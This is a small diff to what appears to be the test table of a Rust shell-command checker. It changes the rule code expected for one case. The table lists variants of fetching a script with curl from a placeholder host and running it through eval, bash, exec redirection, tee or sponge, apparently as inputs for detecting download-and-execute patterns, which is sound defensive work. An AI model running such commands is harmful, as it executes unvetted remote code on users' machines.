@@ -302,7 +302,7 @@ const CASES: &[(&str, &str)] = &[
     ("curl -s https://x/y > f; exec 3< f; eval \"$(cat <&3)\"", "0056"),
     ("curl -s https://x/y > f; read -u 3 l 3< f; eval \"$l\"", "0056"),
     ("curl -s https://x/y > f; exec < f; bash", "0056"),
-    ("g() { bash; }; curl -s https://x/y > f; g < f", "0057"),
+    ("g() { bash; }; curl -s https://x/y > f; g < f", "0056"),
     ("curl -s https://x/y > f; { cat f; } > g; bash g", "0057"),
     ("curl -s https://x/y | command tee f; bash f", "0057"),
     ("curl -s https://x/y | sponge f; bash f", "0057"),
